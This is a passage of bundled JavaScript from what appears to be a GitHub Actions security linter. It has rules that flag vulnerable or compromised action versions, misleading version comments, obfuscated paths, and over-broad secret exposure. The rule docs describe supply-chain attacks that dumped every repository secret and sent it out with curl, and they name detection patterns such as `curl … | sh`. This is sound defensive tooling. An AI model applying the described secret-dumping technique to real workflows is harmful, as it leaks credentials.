  if (alsoToken) {
    const word = /^(\s*)(\S+)(?=\s|$)/.exec(body);
    if (word && word[2] === alsoToken) {
      const start = hash + 1 + word[1].length;
      return { hash, end: lineEnd, version: { span: { start, end: start + word[2].length }, text: word[2] } };
    }
  }
  return { hash, end: lineEnd, version: null };
}
function versionComment(file, site) {
  const comment = trailingComment(file, site);
  return comment && comment !== "blocked" ? comment.version : null;
}
function pinEdits(file, site, uses, commit, comment) {
  const span = refSpan(site, uses);
  if (!span) return null;
  const edits = [];
  if (file.text.slice(span.start, span.end) !== commit) edits.push({ span, newText: commit });
  if (comment !== null) {
    const existing = trailingComment(file, site, uses.ref);
    if (existing === null) {
      const at = site.entry.valueSpan.end;
      edits.push({ span: { start: at, end: at }, newText: ` # ${comment}` });
    } else if (existing !== "blocked") {
      if (existing.version) {
        if (existing.version.text !== comment) edits.push({ span: existing.version.span, newText: comment });
      } else {
        const afterHash = file.text.charAt(existing.hash + 1);
        edits.push({ span: { start: existing.hash + 1, end: existing.hash + 1 }, newText: ` ${comment} #${afterHash === " " ? "" : " "}` });
      }
    }
  }
  return edits;
}
var short = (sha) => sha.slice(0, 12);
function planPin(file, site, snapshot) {
  const uses = resolvableRemote(site);
  if (!uses || uses.refKind === "sha") return { ok: false, reason: "nothing to pin" };
  if (!snapshot) return { ok: false, reason: "tags are still being resolved" };
  if (snapshot.offline) return { ok: false, reason: "offline mode is on, so tags are not resolved and no pin can be computed" };
  const target = usesTarget(uses);
  if (uses.refKind === "short-sha") {
    const expanded = snapshot.shortShas.get(`${repoKey(uses.owner, uses.repo)}@${uses.ref}`);
    if (!expanded) return { ok: false, reason: "the abbreviated SHA was not resolved" };
    if (!expanded.ok) return { ok: false, reason: `could not expand \`${uses.ref}\`: ${expanded.error.message}` };
    const refs2 = refsFor(snapshot, uses);
    const comment2 = refs2?.ok ? chooseVersionComment(refs2.value, expanded.value, null) : null;
    const edits2 = pinEdits(file, site, uses, expanded.value, comment2 && parseVersion(comment2) ? comment2 : null);
    if (!edits2) return { ok: false, reason: "the `uses:` value is not written plainly enough to edit exactly" };
    return {
      ok: true,
      commit: expanded.value,
      comment: comment2,
      via: "sha",
      fix: { title: `Expand to the full commit SHA ${short(expanded.value)}…`, isPreferred: true, safety: "safe", edits: edits2 }
    };
  }
  const refs = refsFor(snapshot, uses);
  if (!refs) return { ok: false, reason: `${uses.repository} was not resolved` };
  if (!refs.ok) return { ok: false, reason: `could not resolve ${uses.repository}: ${refs.error.message}` };
  const found = findRef(refs.value, uses.ref);
  if (found.tag && found.branch && found.tag.commit !== found.branch.commit) {
    return {
      ok: false,
      reason: `\`${uses.ref}\` is both a tag and a branch of ${uses.repository} on different commits; pin by hand after choosing`
    };
  }
  const ref2 = found.branch ?? found.tag;
  if (!ref2) return { ok: false, reason: `${uses.repository} has no tag or branch named \`${uses.ref}\`` };
  const isBranch = !found.tag;
  const comment = isBranch ? uses.ref : chooseVersionComment(refs.value, ref2.commit, uses.ref);
  const edits = pinEdits(file, site, uses, ref2.commit, comment);
  if (!edits) return { ok: false, reason: "the `uses:` value is not written plainly enough to edit exactly" };
  const fix = isBranch ? { title: `Pin ${target} to the current commit of ${uses.ref} (${short(ref2.commit)}…)`, isPreferred: false, safety: "safe", edits } : { title: `Pin ${target} to ${short(ref2.commit)}… # ${comment}`, isPreferred: true, safety: "safe", edits };
  return { ok: true, commit: ref2.commit, comment, via: isBranch ? "branch" : "tag", fix };
}

// server/src/rules/support/version-comments.ts
function trailingComment2(file, end) {
  const line = file.lines.lineAt(end);
  const lineEnd = file.lines.lineContentEnd(line);
  const rest = file.text.slice(end, lineEnd);
  const match = /(^|\s)#/.exec(rest);
  if (!match) return null;
  const hash = end + match.index + match[1].length;
  return { text: file.text.slice(hash + 1, lineEnd).trim(), span: { start: hash, end: lineEnd } };
}
function commentVersion(comment) {
  const match = /(?:^|[\s@=:])(v?\d+(?:\.\d+){0,3}(?:-[0-9A-Za-z.]+)?)(?=$|[\s,;)])/.exec(comment);
  return match ? match[1] : null;
}
function usesCommentVersion(file, site) {
  const comment = trailingComment2(file, site.entry.valueSpan.end);
  return comment ? commentVersion(comment.text) : null;
}
function parseVersion2(text) {
  const match = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?(?:\.(\d+))?(-[0-9A-Za-z.]+)?(\+[0-9A-Za-z.]+)?$/.exec(text.trim());
  if (!match) return null;
  const parts = [match[1], match[2], match[3], match[4]].filter((p) => p !== void 0).map(Number);
  return { parts, written: parts.length, prerelease: match[5] !== void 0 };
}

// server/src/views.ts
function available(value) {
  return { available: true, value };
}
function unavailable(reason, detail) {
  return detail === void 0 ? { available: false, reason } : { available: false, reason, detail };
}
function viewValue(view) {
  return view.available ? view.value : void 0;
}
function onlineView(snapshot) {
  if (!snapshot) return unavailable("not-fetched");
  return snapshot.offline ? unavailable("offline") : available(snapshot);
}
var NO_VIEWS = Object.freeze({
  online: unavailable("not-fetched"),
  workspace: unavailable("not-indexed"),
  dependencies: unavailable("not-fetched")
});

// server/src/rules/known-vulnerable-actions.ts
var WIDTH = 4;
function tuple(version2) {
  return Array.from({ length: WIDTH }, (_, i) => version2.parts[i] ?? 0);
}
function compare(a, b) {
  for (let i = 0; i < WIDTH; i++) if (a[i] !== b[i]) return a[i] < b[i] ? -1 : 1;
  return 0;
}
function bound(text) {
  if (!text) return null;
  const parsed = parseVersion2(text);
  return parsed ? tuple(parsed) : null;
}
function exactIn(version2, range) {
  const v2 = tuple(version2);
  const introduced = bound(range.introduced);
  if (introduced && (compare(v2, introduced) < 0 || range.introducedExclusive && compare(v2, introduced) === 0)) return false;
  const fixed = bound(range.fixed);
  if (fixed && (compare(v2, fixed) > 0 || compare(v2, fixed) === 0 && !version2.prerelease)) return false;
  const last = bound(range.lastAffected);
  if (last && compare(v2, last) > 0) return false;
  return true;
}
function seriesVerdict(version2, range) {
  const start = tuple(version2);
  const end = start.slice();
  end[version2.written - 1] += 1;
  const introduced = bound(range.introduced) ?? [0, 0, 0, 0];
  if (compare(introduced, end) >= 0) return "clear";
  const fixed = bound(range.fixed);
  const last = bound(range.lastAffected);
  if (!fixed && !last) return "affected";
  if (fixed && compare(fixed, end) >= 0) return "affected";
  if (last && compare(last, end) >= 0) return "affected";
  const overlaps = fixed !== null && compare(fixed, start) > 0 || last !== null && compare(last, start) >= 0;
  return overlaps ? "maybe" : "clear";
}
function verdict(text, advisory) {
  const version2 = parseVersion2(text);
  if (!version2) return "clear";
  let result = "clear";
  for (const range of advisory.ranges) {
    const one = version2.written >= 3 ? exactIn(version2, range) ? "affected" : "clear" : seriesVerdict(version2, range);
    if (one === "affected") return "affected";
    if (one === "maybe") result = "maybe";
  }
  return result;
}
function ids(advisory) {
  return advisory.cve ? `${advisory.ghsa} / ${advisory.cve}` : advisory.ghsa;
}
function upgrade(advisory) {
  if (advisory.patchedTag) return `; upgrade to ${advisory.patchedTag} or later`;
  return advisory.firstPatched ? `; the first patched version is ${advisory.firstPatched}` : "";
}
function tagFor(refs, version2) {
  if (!refs || !version2) return void 0;
  const bare = version2.replace(/^v/, "");
  return (refs.tags.find((tag) => tag.name === version2) ?? refs.tags.find((tag) => tag.name.replace(/^v/, "") === bare))?.name;
}
function concerns(advisory, uses) {
  const repository = uses.repository.toLowerCase();
  if (advisory.packageName === repository) return true;
  return uses.subpath !== null && advisory.packageName === `${repository}/${trimEndOf(uses.subpath, "/")}`.toLowerCase();
}
function knownFor(uses, snapshot, refs) {
  const bundled = [...advisoriesFor2(uses.repository)];
  const online = snapshot ? advisoriesFor(snapshot, uses) : void 0;
  if (!online) return bundled;
  const seen = new Set(bundled.map((advisory) => advisory.ghsa));
  const merged = /* @__PURE__ */ new Map();
  for (const advisory of online) {
    if (seen.has(advisory.ghsa) || !concerns(advisory, uses)) continue;
    const existing = merged.get(advisory.ghsa);
    if (existing) {
      existing.ranges = [...existing.ranges, ...advisory.ranges];
      continue;
    }
    const entry = {
      repository: uses.repository.toLowerCase(),
      ghsa: advisory.ghsa,
      severity: advisory.severity,
      kind: "vulnerability",
      summary: `${trimEndOfSpaceAnd(advisory.summary, ".")} (GitHub advisory database, affected ${advisory.rangeText})`,
      ranges: advisory.ranges,
      source: advisory.url ?? `${snapshot.serverUrl}/advisories/${advisory.ghsa}`,
      online: true
    };
    if (advisory.cve) entry.cve = advisory.cve;
    if (advisory.firstPatched) entry.firstPatched = advisory.firstPatched;
    const patchedTag = tagFor(refs, advisory.firstPatched);
    if (patchedTag) entry.patchedTag = patchedTag;
    merged.set(advisory.ghsa, entry);
  }
  return [...bundled, ...merged.values()];
}
function taggedVersion(refs, sha) {
  if (!refs) return null;
  for (const name of tagsAt(refs, sha)) if (isFullVersion(parseVersion(name))) return name;
  return null;
}
function bumpFix(file, site, uses, refs, advisory) {
  if (!refs || !advisory.patchedTag) return null;
  const tag = refs.tags.find((candidate) => candidate.name === advisory.patchedTag);
  if (!tag || tag.commit === uses.ref) return null;
  const edits = pinEdits(file, site, uses, tag.commit, tag.name);
  if (!edits || edits.length === 0) return null;
  return {
    title: `Upgrade ${usesTarget(uses)} to ${tag.name} (${tag.commit.slice(0, 12)}…), the first patched release`,
    isPreferred: false,
    safety: "unsafe",
    edits
  };
}
var knownVulnerableActions = {
  id: "known-vulnerable-actions",
  title: "Action version with a published advisory",
  kinds: ["workflow", "action"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  reads: ["online"],
  docs: {
    summary: "A `uses:` names an action version (by tag, by the version comment of a SHA pin, or by a known-malicious commit) that a public GitHub advisory lists as compromised or vulnerable.",
    why: "In March 2025 the tags of `tj-actions/changed-files` (CVE-2025-30066) were moved to a commit that printed the runner's secrets into public logs, after a similar compromise of `reviewdog/action-setup@v1` (CVE-2025-30154). In March 2026 the tags of `aquasecurity/trivy-action` and `aquasecurity/setup-trivy` were force-pushed to a credential stealer (CVE-2026-33634). Other actions shipped injection bugs fixed in a later release. Workflows still naming those versions or commits remain exposed, or were exposed while the bad code was live.",
    fix: "Move to the first patched release (pinned by SHA with a version comment), and rotate any secret the job could read while a compromised version ran.",
    onlineLookup: "the advisory database lookup"
  },
  check({ file, online, report: report2 }) {
    const snapshot = viewValue(online);
    for (const site of file.uses) {
      const reference = site.reference;
      if (reference.kind !== "remote" || !reference.ref) continue;
      const resolved = snapshot ? refsFor(snapshot, reference) : void 0;
      const refs = resolved?.ok ? resolved.value : void 0;
      const advisories = knownFor(reference, snapshot, refs);
      if (advisories.length === 0) continue;
      const target = usesTarget(reference);
      const refSpan2 = refOrValueSpan(site, reference);
      for (const advisory of advisories) {
        const sha = /^[0-9a-f]{40}$/i.test(reference.ref) ? reference.ref.toLowerCase() : null;
        if (sha) {
          if (advisory.badCommits?.includes(sha)) {
            report2({
              span: refSpan2,
              message: `\`${target}@${reference.ref.slice(0, 12)}…\` is the malicious commit of ${ids(advisory)}: ${advisory.summary}. Rotate every secret this job could read${upgrade(advisory)}`,
              severity: advisory.severity,
              confidence: "high"
            });
            continue;
          }
          if (advisory.kind === "compromise") continue;
          const tagged = taggedVersion(refs, sha);
          const version2 = tagged ?? usesCommentVersion(file, site);
          if (version2 && verdict(version2, advisory) === "affected") {
            const fix = bumpFix(file, site, reference, refs, advisory);
            report2({
              span: refSpan2,
              message: `\`${target}\` is pinned to a commit ${tagged ? "tagged" : "commented as"} \`${version2}\`, affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`,
              severity: advisory.severity,
              confidence: tagged ? "high" : "medium",
              fixes: fix ? [fix] : []
            });
          }
          continue;
        }
        if (reference.refKind !== "version") continue;
        const moving = (parseVersion2(reference.ref)?.written ?? 3) < 3;
        const movingTag = moving && refs ? refs.tags.find((tag) => tag.name === reference.ref) : void 0;
        const now = movingTag && !refs.branches.some((branch) => branch.name === reference.ref) ? taggedVersion(refs, movingTag.commit) : null;
        if (now && verdict(now, advisory) !== "affected") continue;
        const result = now ? "affected" : verdict(reference.ref, advisory);
        if (result === "clear") continue;
        const confidence = result === "affected" ? "high" : "medium";
        const fixes = [];
        const bump = bumpFix(file, site, reference, refs, advisory);
        if (bump) fixes.push(bump);
        else if (advisory.patchedTag && site.exact) {
          fixes.push({
            title: `Upgrade ${target} to ${advisory.patchedTag} (then pin it by SHA)`,
            isPreferred: false,
            safety: "unsafe",
            edits: [{ span: refSpan2, newText: advisory.patchedTag }]
          });
        }
        const lead = result === "maybe" ? `\`${target}@${reference.ref}\` is a moving tag whose series includes versions affected by ${ids(advisory)} (${advisory.summary}); it is safe only if the tag now points at the fix${advisory.patchedTag ? ` (${advisory.patchedTag})` : advisory.firstPatched ? ` (${advisory.firstPatched})` : ""} or later — pin a patched release by SHA` : `\`${target}@${reference.ref}\`${now ? ` (a moving tag, now at \`${now}\`)` : moving ? " (a moving tag whose newest release is affected)" : ""} is affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`;
        report2({
          span: refSpan2,
          message: advisory.kind === "compromise" && result === "affected" ? `${lead}. If a run used this tag while it was compromised, rotate every secret the job could read` : lead,
          severity: advisory.severity,
          confidence,
          ...result === "maybe" ? { persona: "pedantic" } : {},
          fixes
        });
      }
    }
  }
};

// server/src/rules/misfeature.ts
var READABLE_SHELLS = /* @__PURE__ */ new Set(["bash", "sh", "pwsh", "powershell", "python", "python3", "cmd", "msys2", "wsl-bash", "micromamba-shell"]);
function customShellProgram(shell) {
  const text = shell.trim();
  if (!text.includes("{0}") || text.includes("${{")) return null;
  const words2 = text.split(/\s+/).map((word) => word.replace(/^['"]+|['"]+$/g, ""));
  const program = (words2[0] ?? "").replace(/^.*[\\/]/, "").toLowerCase();
  const name = program.endsWith(".exe") ? program.slice(0, -4) : program;
  if (READABLE_SHELLS.has(name)) return null;
  if (words2.slice(1).some((word) => READABLE_SHELLS.has(word.replace(/^.*[\\/]/, "").toLowerCase()))) return null;
  return words2[0] || null;
}
function checkShell(ctx, where, shell) {
  if (!shell) return;
  const custom = customShellProgram(shell.value);
  if (custom) {
    ctx.report({
      span: shell.span,
      message: `${where()} runs its script with the custom shell \`${custom}\`: no rule reads what that script does (downloads, installs, injected expressions), and its own quoting rules apply to every \`\${{ }}\` pasted into it. Prefer \`bash\` or \`pwsh\` calling the program on a file`,
      severity: "informational",
      persona: "auditor"
    });
    return;
  }
  if (shell.value.trim().toLowerCase() !== "cmd") return;
  ctx.report({
    span: shell.span,
    message: `${where()} uses \`shell: cmd\`, whose quoting rules make any interpolated value hard to contain and whose errors do not stop the script: use \`pwsh\` or \`bash\``
  });
}
function checkSteps(ctx, steps) {
  for (const step of steps) checkShell(ctx, () => `Step \`${step.label}\``, step.shell);
}
var misfeature = {
  id: "misfeature",
  title: "Feature that is hard to use safely",
  kinds: ["workflow", "action"],
  severity: "low",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "`shell: cmd` and actions/setup-python's `pip-install` work, but make injection or unpinned installs the easy path.",
    why: "`cmd.exe` expands `%VAR%` and metacharacters in ways no quoting fully contains and carries on after a failing command; `pip-install` installs whatever the index serves today, without hashes, in the same step that sets up the interpreter — the unpinned-install pattern behind the 2026 LiteLLM compromise.",
    fix: "Use `shell: pwsh` or `bash` on Windows; install Python packages in a `run:` step from a lockfile with hashes."
  },
  check(ctx) {
    const { workflow, action } = ctx.file;
    if (workflow) {
      const defaults = (view) => view.child("defaults").child("run").string("shell");
      checkShell(ctx, () => "The workflow default", defaults(workflow));
      for (const job of workflow.jobs) {
        checkShell(ctx, () => `The default of job \`${job.id}\``, defaults(job));
        checkSteps(ctx, job.steps);
      }
    }
    if (action) checkSteps(ctx, action.steps);
    for (const site of ctx.file.uses) {
      const reference = site.reference;
      if (!site.step || reference.kind !== "remote" || reference.repository.toLowerCase() !== "actions/setup-python") continue;
      const pip = site.step.with.get("pip-install");
      if (!pip) continue;
      ctx.report({
        span: pip.keySpan,
        message: "`pip-install` of actions/setup-python installs packages into the interpreter without a lockfile or hashes: install them in a `run:` step from a locked requirements file (`pip install --require-hashes -r …`, `uv sync --locked`)"
      });
    }
  }
};

// server/src/rules/obfuscation.ts
function normalizeUsesPath(segments) {
  const out = [];
  for (const segment of segments) {
    if (segment === "" || segment === ".") continue;
    if (segment === ".." && out.length > 0 && out[out.length - 1] !== "..") out.pop();
    else out.push(segment);
  }
  return out;
}
function constantString(node) {
  let constant = true;
  walkExpression(node, (n) => {
    if (n.type === "context" || n.type === "property" || n.type === "index" || n.type === "wildcard") constant = false;
    if (n.type === "call" && !["format", "join", "tojson"].includes(n.name.toLowerCase())) constant = false;
  });
  if (!constant) return void 0;
  const inner = node.type === "group" ? node.expr : node;
  if (inner.type === "literal" && inner.kind === "string") return String(inner.value);
  if (inner.type === "call" && inner.name.toLowerCase() === "format" && inner.args.every((a) => a.type === "literal")) {
    const [template, ...args2] = inner.args.map((a) => a.type === "literal" ? a.value === null ? "" : String(a.value) : "");
    let broken = false;
    const result = template.replace(/\{\{|\}\}|\{(\d+)\}/g, (match, index) => {
      if (match === "{{") return "{";
      if (match === "}}") return "}";
      const i = Number(index);
      if (i >= args2.length) broken = true;
      return args2[i] ?? "";
    });
    return broken ? void 0 : result;
  }
  if (inner.type === "call") return "";
  return void 0;
}
var SAFE_TEXT = /^[A-Za-z0-9_./@+=-]+$/;
function checkUsesPaths(ctx) {
  for (const site of ctx.file.uses) {
    const reference = site.reference;
    const span = site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
    let normalized = null;
    if (reference.kind === "remote" && reference.subpath !== null) {
      const raw = reference.subpath.split("/");
      const clean = normalizeUsesPath(raw);
      if (clean.join("/") !== raw.join("/") && !clean.includes("..")) {
        const path = [reference.owner, reference.repo, ...clean].join("/");
        normalized = reference.ref === null ? path : `${path}@${reference.ref}`;
      }
    } else if (reference.kind === "local" || reference.kind === "self") {
      const prefix = reference.kind === "local" ? "./" : "$/";
      const rest = reference.kind === "local" ? reference.path.replace(/^\.\/?/, "") : reference.path;
      const raw = rest.split("/");
      const clean = normalizeUsesPath(raw);
      if (clean.join("/") !== raw.join("/") && !(raw.length > 0 && raw[raw.length - 1] === "" && clean.join("/") === raw.slice(0, -1).join("/"))) {
        normalized = prefix + clean.join("/");
      }
    } else if (reference.kind === "invalid") {
      const text = site.value.trim();
      const at = text.lastIndexOf("@");
      const target = at === -1 ? text : text.slice(0, at);
      const clean = normalizeUsesPath(target.split("/"));
      if (clean.length >= 2 && !clean.includes("..") && !text.startsWith("docker://") && !text.startsWith(".") && !text.startsWith("$")) {
        normalized = clean.join("/") + (at === -1 ? "" : text.slice(at));
      }
    }
    if (normalized === null) continue;
    const fixes = site.exact ? [{ title: `Write it as \`${normalized}\``, isPreferred: true, safety: "safe", edits: [{ span, newText: normalized }] }] : [];
    ctx.report({
      span,
      message: `\`${site.value.trim()}\` hides its target behind \`.\`, \`..\` or empty path segments; it is \`${normalized}\``,
      fixes
    });
  }
}
var obfuscation = {
  id: "obfuscation",
  title: "Needlessly obscured action path or expression",
  kinds: ["workflow", "action"],
  severity: "low",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "A `uses:` path with `.`, `..` or empty segments, or a `${{ }}` that only computes a constant (`${{ 'curl' }}`, `${{ format('{0}', 'x') }}`), hides what the workflow does from reviewers and scanners.",
    why: "Reviewers and pattern-based scanners look for `actions/checkout`, `curl … | sh` or `pull_request_target` as written; attackers who plant or propose workflow changes (GhostAction 2025, Shai-Hulud 2025 planted exfiltration workflows in thousands of repositories) benefit from spellings that do not match. Legitimate workflows never need them.",
    fix: "Write the plain form; the quick fix replaces the path with its normalised form, and a constant expression with its value when that value is plain text."
  },
  check(ctx) {
    checkUsesPaths(ctx);
    for (const expression of evaluatedExpressions(ctx.file)) {
      if (!expression.fence || expression.isCondition || !expression.exact || !expression.tree) continue;
      const value = constantString(expression.tree);
      if (value === void 0 || value.includes("${{") || value.includes("}}")) continue;
      const fence = expression.fence;
      const fixes = SAFE_TEXT.test(value) ? [{ title: `Replace with \`${value}\``, isPreferred: true, safety: "safe", edits: [{ span: fence, newText: value }] }] : [];
      ctx.report({
        span: fence,
        message: `\`${ctx.file.text.slice(fence.start, fence.end)}\` always evaluates to \`${value}\`: write the text itself`,
        fixes
      });
    }
  }
};

// server/src/rules/overprovisioned-secrets.ts
var overprovisionedSecrets = {
  id: "overprovisioned-secrets",
  title: "Every secret of the repository handed to one place",
  kinds: ["workflow", "action"],
  severity: "medium",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "`toJSON(secrets)` or `secrets[<computed>]` makes the runner load every secret of the repository into the job, not only the ones it names.",
    why: "A job only receives the secrets its expressions name. `toJSON(secrets)` names all of them: the Shai-Hulud worm (2025) planted workflows that did exactly this and sent the result to an attacker with `curl`, and any compromised step of such a job (tj-actions/changed-files dumped the runner's memory) leaks every secret at once.",
    fix: "Name each secret the step needs: `env: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`. For a secret chosen at run time, map the few candidates explicitly."
  },
  check({ file, report: report2 }) {
    walkFencedExpressions(file, (node, span) => {
      if (node.type === "call" && functionKey(node) === "tojson" && node.args.length === 1 && contextPath(node.args[0]) === "secrets") {
        report2({ span, message: "`toJSON(secrets)` loads every secret of the repository into this job: name the secrets it needs" });
        return false;
      }
      if (node.type === "index" && contextPath(node.object) === "secrets") {
        const index = node.index;
        if (!(index.type === "literal" && index.kind === "string")) {
          report2({
            span,
            message: "`secrets[...]` with a computed name loads every secret of the repository into this job: name the secrets it needs"
          });
        }
      }
      return true;
    });
  }
};

// server/src/rules/ref-confusion.ts
function checkRefConfusion({ file, online, report: report2 }) {
  if (!online.available) return;
  const snapshot = online.value;
  for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "named-refs")) {
    const found = findRef(refs, uses.ref);
    if (!found.tag || !found.branch) continue;
    const same = found.tag.commit === found.branch.commit;
    report2({
      span: refOrValueSpan(site, uses),
      message: `\`${uses.ref}\` is both a tag and a branch of ${uses.repository}${same ? " (today on the same commit)" : ` (tag ${found.tag.commit.slice(0, 12)}…, branch ${found.branch.commit.slice(0, 12)}…)`}: \`${usesTarget(uses)}@${uses.ref}\` runs the branch, whatever the tag says`,
      confidence: same ? "medium" : "high"
    });
  }
}
var refConfusion = {
  id: "ref-confusion",
  title: "Ref is both a tag and a branch",
  kinds: ["workflow", "action"],
  severity: "medium",
  confidence: "high",
  persona: "regular",
  online: true,
  docs: {
    summary: "A `uses:` ref names both a tag and a branch of the action's repository (online check).",
    why: "When a name is both, GitHub runs the branch. Anyone with push access can create a branch named like a release tag (`v1`) and silently take over every workflow that trusts the tag: the tag still looks right in the release list.",
    fix: "Pin to a full commit SHA (with a `# vX.Y.Z` comment); ask the maintainers to delete the confusing branch."
  },
  check: checkRefConfusion
};

// server/src/rules/ref-version-mismatch.ts
function checkRefVersionMismatch({ file, online, report: report2 }) {
  if (!online.available) return;
  const snapshot = online.value;
  for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "sha-pins")) {
    const sha = uses.ref;
    const target = usesTarget(uses);
    const claimed = versionComment(file, site);
    const truthful = chooseVersionComment(refs, sha, claimed?.text ?? null);
    const atSha = tagsAt(refs, sha);
    const bestTag = atSha.length > 0 ? truthful && atSha.includes(truthful) ? truthful : atSha[0] : null;
    if (!claimed) {
      if (!bestTag) continue;
      if (commentNamesRef(file, site, refs, sha)) continue;
      const edits = pinEdits(file, site, uses, sha, bestTag);
      report2({
        span: site.entry.valueSpan,
        message: `\`${target}@${sha.slice(0, 12)}…\` has no version comment; it is \`${bestTag}\``,
        severity: "low",
        confidence: "high",
        persona: "pedantic",
        fixes: edits && edits.length > 0 ? [{ title: `Add the comment # ${bestTag}`, isPreferred: true, safety: "safe", edits }] : []
      });
      continue;
    }
    if (!parseVersion(claimed.text)) continue;
    const tag = findRef(refs, claimed.text).tag;
    if (tag && tag.commit === sha) continue;
    const where = tag ? `points at ${tag.commit.slice(0, 12)}…, not at the pinned commit` : `is not a tag of ${uses.repository}`;
    const fixes = [];
    if (bestTag) {
      const edits = pinEdits(file, site, uses, sha, bestTag);
      if (edits && edits.length > 0)
        fixes.push({
          title: `Correct the comment to # ${bestTag} (the tag at the pinned commit)`,
          isPreferred: true,
          safety: "safe",
          edits
        });
    }
    if (tag) {
      const edits = pinEdits(file, site, uses, tag.commit, claimed.text);
      if (edits)
        fixes.push({
          title: `Re-pin to ${claimed.text} (${tag.commit.slice(0, 12)}…)`,
          isPreferred: false,
          safety: "unsafe",
          edits
        });
    }
    report2({
      span: claimed.span,
      message: `The comment says \`${claimed.text}\` but \`${claimed.text}\` ${where} of \`${target}\`${bestTag ? `; the pinned commit is \`${bestTag}\`` : "; no tag points at the pinned commit"}`,
      related: [{ span: site.entry.valueSpan, message: `pinned commit ${sha}` }],
      fixes
    });
  }
}
var refVersionMismatch = {
  id: "ref-version-mismatch",
  title: "Version comment does not match the pinned commit",
  kinds: ["workflow", "action"],
  severity: "medium",
  confidence: "high",
  persona: "regular",
  online: true,
  docs: {
    summary: "A SHA-pinned `uses:` carries a `# vX.Y.Z` comment naming a tag that points at a different commit (online check).",
    why: "Reviewers and updaters such as Dependabot trust the version comment, not the 40 hex digits. A comment that lies hides which code really runs: a downgrade to a vulnerable release, or a commit slipped in during a compromise, looks like the version everyone expects. Dependabot leaves wrong comments wrong (dependabot-core#7912).",
    fix: "Correct the comment to the tag that points at the pinned commit, or re-pin to the commit of the tag the comment names."
  },
  check: checkRefVersionMismatch
};
function commentNamesRef(file, site, refs, sha) {
  const comment = trailingComment(file, site);
  if (!comment || comment === "blocked") return false;
  const word = /^#\s*(\S+)/.exec(file.text.slice(comment.hash, comment.end))?.[1];
  if (word === void 0) return false;
  const { branch, tag } = findRef(refs, word);
  return branch !== void 0 || tag?.commit === sha;
}

// server/src/rules/secrets-inherit.ts
var secretsInherit = {
  id: "secrets-inherit",
  title: "Every secret passed to a reusable workflow",
  kinds: ["workflow"],
  severity: "medium",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "`secrets: inherit` hands every secret of the repository (and its organisation) to the called workflow, whatever it needs.",
    why: "A reusable workflow that is compromised, or whose ref moves (as the tags of tj-actions/changed-files did in 2025, CVE-2025-30066), receives all of the caller's secrets at once. GhostAction (2025) exfiltrated 3,325 secrets from 817 repositories: each secret a workflow can reach is one more to lose.",
    fix: "Pass only the secrets the called workflow declares under `on.workflow_call.secrets`, e.g. `secrets: { PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }} }`."
  },
  check({ file, report: report2 }) {
    const workflow = file.workflow;
    if (!workflow) return;
    for (const job of workflow.jobs) {
      const secrets = job.secrets;
      if (!secrets || scalarText(secrets.value) !== "inherit") continue;
      const target = scalarText(job.uses?.value ?? null) ?? "the called workflow";
      const local = target.startsWith("./") || target.startsWith("$/");
      report2({
        span: secrets.valueSpan,
        message: `job \`${job.id}\` passes every repository and organisation secret to \`${target}\`${local ? " (a workflow of this repository)" : ""}; pass only the secrets it declares`,
        severity: local ? "low" : "medium"
      });
    }
  }
};

// server/src/rules/secrets-outside-env.ts
var secretsOutsideEnv = {
  id: "secrets-outside-env",
  title: "Secrets used outside a deployment environment",
  kinds: ["workflow"],
  severity: "medium",
  confidence: "high",
  persona: "auditor",
  online: false,
  docs: {
    summary: "A job uses repository or organisation secrets (other than `GITHUB_TOKEN`) without an `environment:`, so nothing but a push to the workflow file stands between the secret and whoever can run the job.",
    why: "Secrets stored in a deployment environment are released only to jobs that name it, and only after its protection rules (required reviewers, allowed branches and tags) pass. In Nx s1ngularity (2025) and elementary-data (2026) a dispatchable or injectable workflow read publishing tokens straight from repository secrets; at spotbugs (2024) and Trivy (2026) the PAT sat in a `pull_request_target` job. Astral keeps every secret in an environment.",
    fix: "Move the secret into an environment (Settings → Environments) with required reviewers or a branch/tag rule, and add `environment: <name>` to the job. Secrets that are harmless can be listed in the rule's `allow` configuration."
  },
  check({ file, config, report: report2 }) {
    const workflow = file.workflow;
    if (!workflow) return;
    if (workflow.triggers.length > 0 && workflow.triggers.every((trigger) => trigger.name === "workflow_call")) return;
    const allow = new Set(
      (Array.isArray(config.allow) ? config.allow : []).filter((name) => typeof name === "string").map((name) => name.toUpperCase())
    );
    allow.add("GITHUB_TOKEN");
    for (const job of workflow.jobs) {
      if (job.environment) continue;
      const references = secretReferences(file, job.span).filter((secret) => !allow.has(secret.name.toUpperCase()));
      if (references.length === 0) continue;
      const names = [...new Set(references.map((secret) => secret.name === "*" ? "a computed secret" : `\`${secret.name}\``))];
      report2({
        span: references[0].span,
        message: `job \`${job.id}\` uses ${names.length === 1 ? "secret" : "secrets"} ${names.slice(0, 4).join(", ")}${names.length > 4 ? ` and ${names.length - 4} more` : ""} without an \`environment:\`: they are available to any run of this job, with no reviewer or branch rule`,
        related: references.slice(1, 8).map((secret) => ({ span: secret.span, message: `secret \`${secret.name}\`` }))
      });
    }
  }
};

// server/src/rules/self-hosted-runner.ts
var OUTSIDER = [
  "pull_request",
  "pull_request_target",
  "pull_request_review",
  "pull_request_review_comment",
  "issue_comment",
  "issues",
  "discussion",
  "discussion_comment",
  "workflow_run",
  "fork",
  "watch"
];
var selfHostedRunner = {
  id: "self-hosted-runner",
  title: "Job runs on a self-hosted runner",
  kinds: ["workflow"],
  severity: "medium",
  confidence: "high",
  persona: "auditor",
  online: false,
  docs: {
    summary: "A job runs on a self-hosted runner (a `self-hosted` label, a runner group, or labels from an expression). On triggers outsiders can fire this is a path to a persistent foothold in your network.",
